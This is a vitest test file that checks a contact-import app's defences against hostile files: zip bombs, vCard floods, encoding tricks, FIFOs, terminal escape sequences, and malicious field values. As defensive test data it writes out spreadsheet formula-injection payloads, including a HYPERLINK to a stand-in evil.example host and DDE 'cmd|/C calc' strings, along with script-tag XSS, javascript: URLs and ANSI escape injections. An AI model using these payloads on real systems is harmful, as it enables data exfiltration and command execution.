/**
 * Hostile files (issue 13, items 1–8): each case generates its file (test/helpers/hostile.ts), small
 * or streamed, and fails without the defence it names. No timing assertions: a quadratic or
 * unbounded reader shows up as a test that runs out of its timeout or memory, or as a missing error.
 */
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '../../electron/cli';
import { AppService } from '../../electron/services/app-service';
import { openDatabase } from '../../electron/services/db';
import { runImport } from '../../electron/services/importers';
import { MASS_REMOVAL } from '../../electron/services/importers/write';
import { memoryFile, resolvePaths, type SourceFile } from '../../electron/services/importers/source';
import { VCARD_LIMITS } from '../../electron/services/importers/vcard';
import { loadAuditInput } from '../../electron/services/store';
import { entries } from '../helpers/address-book-db';
import { CONNECTIONS_2024, useTempDir, write } from '../helpers/fixtures';
import {
  CONNECTIONS_HEADER,
  connectionsCsv,
  endlessVCards,
  foldedNoteVCard,
  lineBreakFlood,
  patchLine,
  softBreakVCard,
  utf16beWithoutBom,
  zipOfSmallBombs,
} from '../helpers/hostile';
import { makeZip } from '../helpers/zip';
import { noteTexts } from '../helpers/notes';

const tempDir = useTempDir();
const NOW = new Date('2026-11-01T12:00:00Z');

/** Runs the CLI in-process; everything it writes, as a terminal would receive it. */
async function cli(args: string[]) {
  let out = '';
  const code = await main([...args, '--lang', 'en'], {
    stdout: (s) => (out += s),
    stderr: (s) => (out += s),
    isTty: true,
  });
  return { code, out };
}

/** Imports into a fresh database; what was written, read back before it is closed. */
async function importFiles(files: SourceFile[], db = openDatabase(':memory:')) {
  try {
    const summary = await runImport(db, files, { origin: 'file', now: NOW, parallel: false });
    return { summary, input: loadAuditInput(db), names: entries(db).map((e) => e.name) };
  } finally {
    db.close();
  }
}

describe('1. vCard unfolding is linear and a long parse answers requests', () => {
  it('a 20 MB NOTE folded every 74 characters imports (quadratic unfolding never finishes)', async () => {
    const { summary, names } = await importFiles([memoryFile('big.vcf', foldedNoteVCard(20_000_000), true)]);
    expect(summary.files).toMatchObject([{ name: 'big.vcf', kind: 'vcard', rows: 1 }]);
    expect(names).toEqual(['Erika Faltung']);
  });

  it('a 5 MB quoted-printable NOTE with soft line breaks imports', async () => {
    const { summary, names } = await importFiles([memoryFile('soft.vcf', softBreakVCard(5_000_000), true)]);
    expect(summary.files).toMatchObject([{ name: 'soft.vcf', rows: 1 }]);
    expect(names).toEqual(['Otto Weich']);
  });

  it('import:cancel is answered while a vCard is parsed: the import stops cancelled, nothing written', async () => {
    const service = new AppService({ dbPath: join(tempDir(), 'a.db'), now: () => NOW }, { transport: 'browser' });
    try {
      // A vCard without end: only a cancel stops its import. The cancel is a request from outside,
      // answered only when the import gives the event loop a turn.
      const file = endlessVCards();
      const running = service.importFiles(
        () => Promise.resolve({ files: [file], close: () => Promise.resolve() }),
        'file',
      );
      running.catch(() => undefined);
      const info = await new Promise((resolve) => setImmediate(() => resolve(service.dispatch('app:info', {}))));
      expect(info).toMatchObject({ ok: true });
      const cancelled = await new Promise((resolve) =>
        setImmediate(() => resolve(service.dispatch('import:cancel', {}))),
      );
      expect(cancelled).toEqual({ ok: true, value: { cancelled: true } });
      await expect(running).rejects.toMatchObject({ code: 'IMPORT_CANCELLED' });
      expect(file.opened.at(-1)!.destroyed).toBe(true);
      expect(service.audit('en').summary.connections).toBe(0);
      expect(entries(service.db)).toEqual([]);
    } finally {
      service.close();
    }
  });
});

describe('2. a vCard of line breaks is streamed, and one card holds at most what VCARD_LIMITS allows', () => {
  it('64 MiB of line breaks between two cards: both cards, the lines never held', async () => {
    const file = lineBreakFlood(
      'gaps.vcf',
      'BEGIN:VCARD\nFN:Anna Anfang\nEND:VCARD\n',
      64,
      'BEGIN:VCARD\nFN:Zoe Ende\nEND:VCARD\n',
    );
    const { summary, names } = await importFiles([file]);
    expect(summary.files).toMatchObject([{ name: 'gaps.vcf', rows: 2 }]);
    expect([...names].sort()).toEqual(['Anna Anfang', 'Zoe Ende']);
  });

  it('a card that is mostly line breaks fails at the card cap, naming the file and the card', async () => {
    const file = lineBreakFlood('flood.vcf', 'BEGIN:VCARD\nVERSION:3.0\nFN:Flut\n', 33);
    await expect(importFiles([file])).rejects.toThrow(
      `flood.vcf, line 1: card larger than ${VCARD_LIMITS.maxCardBytes} bytes, more than one card may hold`,
    );
  });

  it('a card with more properties than the cap fails, naming the card', async () => {
    const lines = ['BEGIN:VCARD', 'VERSION:3.0', 'FN:Viele', 'END:VCARD', 'BEGIN:VCARD', 'FN:Zu Viele'];
    for (let i = 0; i < VCARD_LIMITS.maxCardProperties; i++) lines.push(`X-N:${i}`);
    lines.push('END:VCARD', '');
    await expect(importFiles([memoryFile('many.vcf', lines.join('\n'), true)])).rejects.toThrow(
      `many.vcf, line 5: card with more than ${VCARD_LIMITS.maxCardProperties} properties`,
    );
  });

  it('a kept value longer than its cap is skipped with a warning; the card stays', async () => {
    const long = 'x'.repeat(VCARD_LIMITS.maxValueBytes + 1);
    const card = ['BEGIN:VCARD', 'VERSION:3.0', 'N:Lang;Lisa', `FN:${long}`, 'EMAIL:lisa@example.com', 'END:VCARD', ''];
    const { summary, names } = await importFiles([memoryFile('long.vcf', card.join('\r\n'), true)]);
    expect(noteTexts(summary.warnings)).toEqual([
      `long.vcf, line 4: FN longer than ${VCARD_LIMITS.maxValueBytes} bytes, skipped`,
    ]);
    expect(names).toEqual(['Lisa Lang']);
  });
});

describe('3. the compression ratio of every ZIP entry, whatever its size, and of the whole archive', () => {
  async function importZip(name: string, zip: Buffer) {
    const sources = await resolvePaths([write(tempDir(), name, zip)]);
    try {
      return await importFiles(sources.files);
    } finally {
      await sources.close();
    }
  }

  it('entries of exactly 1 MiB are ratio-checked (they inflated 3.9 GiB unchecked)', async () => {
    await expect(importZip('mib.zip', zipOfSmallBombs(200, 1024 * 1024))).rejects.toThrow(
      /^mib\.zip › part-0\.csv: compression ratio \d+:1 is beyond 200:1 \(zip bomb\?\)$/,
    );
  });

  it('many small, highly compressed entries are refused before anything is inflated', async () => {
    await expect(importZip('small.zip', zipOfSmallBombs(2000, 16 * 1024))).rejects.toThrow(
      /^small\.zip › part-0\.csv: compression ratio \d+:1 is beyond 200:1/,
    );
  });

  it('an archive whose entries pass one by one but not as a whole is refused, naming the archive', async () => {
    // Entries of no deflated bytes that claim 150 bytes each: 150:1 apiece (a size of 0 counts as 1),
    // but 7,500 bytes from nothing as a whole.
    const raw = { deflated: Buffer.alloc(0), size: 150, crc: 0 };
    const zip = makeZip(Array.from({ length: 50 }, (_, i) => ({ name: `e${i}.csv`, data: '', raw })));
    await expect(importZip('whole.zip', zip)).rejects.toThrow(/^whole\.zip: archive expands \d+:1, beyond 200:1/);
  });

  it('an ordinary export still opens', async () => {
    const { summary } = await importZip('export.zip', makeZip([{ name: 'Connections.csv', data: CONNECTIONS_2024 }]));
    expect(summary.added).toBe(4);
  });
});

describe('4. the encoding is decided per file, by a stated rule, and every fallback is said', () => {
  const rowsOf = (input: { contacts: ReadonlyArray<{ name: string }> }) => input.contacts.map((c) => c.name);

  it('one byte that is not UTF-8 in row 10,000 of 20,000: the file stays UTF-8, the line is named', async () => {
    // "J\xfcrgen": a Windows-1252 ü in a UTF-8 file (line 10,001: the header is line 1).
    const bytes = patchLine(connectionsCsv(20_000), 10_001, 'Jürgen', Buffer.from('J\xfcrgen', 'latin1'));
    const { summary, input } = await importFiles([memoryFile('Connections.csv', bytes, true)]);
    expect(noteTexts(summary.warnings)).toEqual([
      'Connections.csv, line 10001: bytes that are not UTF-8, read as Windows-1252',
    ]);
    const names = rowsOf(input);
    expect(names).toHaveLength(20_000);
    expect(names.every((n) => n.startsWith('Jürgen Müller '))).toBe(true);
    expect(names).toContain('Jürgen Müller 9999');
  });

  it('a file that is Windows-1252 throughout is read as Windows-1252, with a warning', async () => {
    const text = `${CONNECTIONS_HEADER}\nJörg,Weiß,,,Bäckerei,,20 Mar 2024\nÜte,Öz,,,,,20 Mar 2024\n`;
    const { summary, input } = await importFiles([memoryFile('Connections.csv', Buffer.from(text, 'latin1'), true)]);
    expect(rowsOf(input)).toEqual(['Jörg Weiß', 'Üte Öz']);
    expect(noteTexts(summary.warnings)).toEqual([
      'Connections.csv, line 2: not UTF-8, so the whole file was read as Windows-1252',
    ]);
  });

  it('a byte-order mark says UTF-8: bytes that are not are read as Windows-1252, the line named', async () => {
    const bytes = Buffer.concat([
      Buffer.from(`\uFEFF${CONNECTIONS_HEADER}\nAnna,Alt,,,,,20 Mar 2024\n`, 'utf8'),
      Buffer.from('J\xfcrgen,Neu,,,,,20 Mar 2024\n', 'latin1'),
    ]);
    const { summary, input } = await importFiles([memoryFile('Connections.csv', bytes, true)]);
    expect(rowsOf(input)).toEqual(['Anna Alt', 'Jürgen Neu']);
    expect(noteTexts(summary.warnings)).toEqual([
      'Connections.csv, line 3: bytes that are not UTF-8, read as Windows-1252',
    ]);
  });
});

describe('5. paths that are no regular file, NUL bytes past the head, UTF-16BE without BOM', () => {
  it.skipIf(process.platform === 'win32')(
    'a FIFO given as a path is refused with its name (it hung the import)',
    async () => {
      const dir = tempDir();
      const fifo = join(dir, 'Connections.csv');
      execFileSync('mkfifo', [fifo]);
      await expect(resolvePaths([fifo])).rejects.toThrow(
        'Connections.csv: not a regular file (a pipe, socket or device), refused',
      );
      // In a folder it is passed over like anything else that is not a file.
      write(dir, 'PhoneNumbers.csv', 'Extension,Number,Type\n,+49 171 5550100,Mobile\n');
      const sources = await resolvePaths([dir]);
      expect(sources.files.map((f) => f.name)).toEqual(['PhoneNumbers.csv']);
      await sources.close();
    },
    5000,
  );

  it('a NUL byte past the first 64 KiB of a CSV is removed, its line named', async () => {
    const bytes = patchLine(connectionsCsv(2000), 1501, 'Jürgen', Buffer.from('J\0rgen'));
    expect(bytes.indexOf(0)).toBeGreaterThan(64 * 1024);
    const { summary, input } = await importFiles([memoryFile('Connections.csv', bytes, true)]);
    expect(noteTexts(summary.warnings)).toEqual(['Connections.csv, line 1501: NUL bytes removed']);
    expect(input.contacts.filter((c) => c.name.includes('\0'))).toEqual([]);
    expect(input.contacts.map((c) => c.name)).toContain('Jrgen Müller 1499');
  });

  it('a NUL byte in a big messages file read in parallel: read again the ordinary way, line named', async () => {
    const header =
      'CONVERSATION ID,CONVERSATION TITLE,FROM,SENDER PROFILE URL,TO,RECIPIENT PROFILE URLS,DATE,SUBJECT,CONTENT,FOLDER';
    const lines = [header];
    for (let i = 0; i < 3000; i++)
      lines.push(
        `c${i},,Pat ${i % 50},https://www.linkedin.com/in/pat-${i % 50},Ich,https://www.linkedin.com/in/ich,2024-03-20 15:09:26 UTC,,Hallo,INBOX`,
      );
    lines[2500] = lines[2500]!.replace('Pat ', 'P\0at ');
    const file = memoryFile('messages.csv', `${lines.join('\n')}\n`);
    const db = openDatabase(':memory:');
    try {
      const summary = await runImport(db, [file], {
        origin: 'file',
        now: NOW,
        parallel: { minBytes: 0, chunkBytes: 4096, workers: 0 },
      });
      expect(summary.files).toMatchObject([{ name: 'messages.csv', kind: 'linkedin-messages', rows: 3000 }]);
      expect(noteTexts(summary.warnings)).toEqual(['messages.csv, line 2501: NUL bytes removed']);
    } finally {
      db.close();
    }
  });

  it('UTF-16BE without a byte-order mark is read (it was refused as binary), CSV and vCard', async () => {
    const csv = `${CONNECTIONS_HEADER}\nJürgen,Öztürk,,,,,20 Mar 2024\n`;
    const card = 'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Zoë Übel\r\nEND:VCARD\r\n';
    const { summary, input, names } = await importFiles([
      memoryFile('Connections.csv', utf16beWithoutBom(csv), true),
      memoryFile('card.vcf', utf16beWithoutBom(card), true),
    ]);
    expect(noteTexts(summary.warnings)).toEqual([]);
    expect(input.contacts.map((c) => c.name)).toEqual(['Jürgen Öztürk']);
    expect(names).toEqual(['Zoë Übel']);
  });
});

describe('6. the CLI shows control characters from files instead of obeying them', () => {
  /** Control characters a terminal would obey (all but LF and tab). */
  const controls = (text: string): string[] =>
    [...text].filter((ch) => {
      const c = ch.charCodeAt(0);
      return (c < 0x20 && c !== 0x0a && c !== 0x09) || (c >= 0x7f && c <= 0x9f);
    });

  it('names with ESC[31m and ESC]0;…BEL in the import summary, audit and history print neutralised', async () => {
    const dir = tempDir();
    const db = join(dir, 'a.db');
    const evil = `${CONNECTIONS_HEADER}\nMax\x1b[31m,Rot\x1b]0;pwned\x07,https://www.linkedin.com/in/max-rot,,Firma\x1b[2J,,bad\x1b[5mdate\n`;
    const files = [
      write(dir, 'Connections\x1b[2J.csv', evil),
      write(dir, 'Email Addresses.csv', 'Email Address,Confirmed,Primary,Updated On\nich@gmx.de,Yes,Yes,\n'),
    ];
    const imported = await cli(['import', ...files, '--db', db]);
    expect(imported.code).toBe(0);
    // The file name and the warning that quotes the date are printed; their escapes are not obeyed.
    expect(imported.out).toContain('Connections␛[2J.csv');
    expect(imported.out).toContain('bad␛[5mdate');
    const audit = await cli(['audit', '--db', db]);
    expect(audit.code).toBe(0);
    expect(audit.out).toContain('Max␛[31m Rot␛]0;pwned␇');
    const history = await cli(['history', '--db', db]);
    for (const { out } of [imported, audit, history]) {
      // Only the progress bar's own CR may reach the terminal; nothing else below a space but LF and tab.
      expect(controls(out.replace(/\r(?=\[[#.]+\] \d+% )/g, ''))).toEqual([]);
    }
  });
});

describe('7. an export that would remove a large share of the connections says so', () => {
  const people = (n: number, from = 0) =>
    Array.from({ length: n }, (_, i) => `Pat,Nr${from + i},https://www.linkedin.com/in/pat-${from + i},,,,20 Mar 2024`);
  const csv = (rows: string[]) => [CONNECTIONS_HEADER, ...rows, ''].join('\n');

  it('a header-only Connections.csv marks every connection removed, with a warning in the summary', async () => {
    const dir = tempDir();
    const db = join(dir, 'a.db');
    expect((await cli(['import', write(dir, 'Connections.csv', csv(people(30))), '--db', db])).code).toBe(0);
    const second = await cli(['import', write(tempDir(), 'Connections.csv', csv([])), '--db', db]);
    expect(second.code).toBe(0);
    expect(second.out).toContain('30 removed');
    expect(second.out).toContain(
      'warning: Connections.csv: 30 of your 30 connections (100%) are not in this export and are now marked removed. If the export is incomplete, import a complete one.',
    );
  });

  it(`warns above ${MASS_REMOVAL.share * 100} % and from ${MASS_REMOVAL.atLeast} removed, not below`, async () => {
    const removal = async (before: number, after: number) => {
      const db = openDatabase(':memory:');
      try {
        await runImport(db, [memoryFile('Connections.csv', csv(people(before)))], { origin: 'file', now: NOW });
        const summary = await runImport(db, [memoryFile('Connections.csv', csv(people(after)))], {
          origin: 'file',
          now: NOW,
        });
        return {
          removed: summary.removed,
          warned: noteTexts(summary.warnings).some((w) => w.includes('marked removed')),
        };
      } finally {
        db.close();
      }
    };
    expect(await removal(40, 30)).toEqual({ removed: 10, warned: true }); // 25 %
    expect(await removal(60, 50)).toEqual({ removed: 10, warned: false }); // 17 %
    expect(await removal(9, 0)).toEqual({ removed: 9, warned: false }); // fewer than 10
    expect(await removal(30, 28)).toEqual({ removed: 2, warned: false });
  });
});

describe("8. the user's own details and profile URLs are validated on input", () => {
  it('details:set refuses a formula as a mobile number and markup as an email, saving nothing', async () => {
    const service = new AppService({ dbPath: join(tempDir(), 'a.db'), now: () => NOW }, { transport: 'browser' });
    try {
      const saved = await service.dispatch('details:set', {
        details: [
          { field: 'mobile', value: '+49 (0)171 555-0100' },
          { field: 'privateEmail', value: 'ich.selbst@gmx.de' },
          { field: 'birthday', value: '1980-03-07' },
        ],
      });
      expect(saved).toMatchObject({ ok: true });
      const before = loadAuditInput(service.db).myDetails;
      for (const [field, value] of [
        ['mobile', '=HYPERLINK("https://evil.example/?"&A1,"Anrufen")'],
        ['privateEmail', '<script>alert(1)</script>@gmx.de'],
        ['businessEmail', '=cmd|"/C calc"!A0@firma.de'],
        ['birthday', '31.02.1980'],
        ['address', '@SUM(1+1)*cmd|"/C calc"!A0'],
      ] as const) {
        expect(await service.dispatch('details:set', { details: [{ field, value }] })).toMatchObject({
          ok: false,
          error: { code: 'BAD_REQUEST', messageId: 'error.badDetail', values: { field } },
        });
      }
      expect(loadAuditInput(service.db).myDetails).toEqual(before);
    } finally {
      service.close();
    }
  });

  it("an export's formula phone number and markup email are skipped with a warning", async () => {
    const phones = 'Extension,Number,Type\n,=HYPERLINK("https://evil.example"),Mobile\n,+49 171 5550100,Mobile\n';
    const emails =
      'Email Address,Confirmed,Primary,Updated On\n<script>alert(1)</script>@gmx.de,Yes,Yes,\nich@gmx.de,Yes,No,\n';
    const { summary, input } = await importFiles([
      memoryFile('PhoneNumbers.csv', phones),
      memoryFile('Email Addresses.csv', emails),
    ]);
    expect(input.myDetails.map((d) => d.value).sort()).toEqual(['+49 171 5550100', 'ich@gmx.de']);
    expect(noteTexts(summary.warnings)).toEqual([
      'PhoneNumbers.csv, line 2: "=HYPERLINK("https://evil.example")" is not a phone number, skipped',
      'Email Addresses.csv, line 2: "<script>alert(1)</script>@gmx.de" is not an email address, skipped',
    ]);
  });

  it("a XING vCard's javascript: URL is not kept as its profile URL; an https one is", async () => {
    const card = (name: string, url: string) =>
      ['BEGIN:VCARD', 'VERSION:2.1', 'PRODID:-//XING//www.xing.com//DE', `FN:${name}`, `URL:${url}`, 'END:VCARD'].join(
        '\r\n',
      );
    const { summary, input } = await importFiles([
      memoryFile(
        'evil.vcf',
        card('Eve Böse', 'javascript:alert(document.cookie)//www.xing.com/profile/Eve_Boese'),
        true,
      ),
      memoryFile('good.vcf', card('Gut Mensch', 'https://www.xing.com/profile/Gut_Mensch'), true),
    ]);
    expect(input.contacts.map((c) => [c.name, c.profileUrl])).toEqual([
      ['Eve Böse', null],
      ['Gut Mensch', 'https://www.xing.com/profile/Gut_Mensch'],
    ]);
    expect(noteTexts(summary.warnings)).toEqual(['evil.vcf, line 1: a URL that is not http(s), ignored']);
  });
});
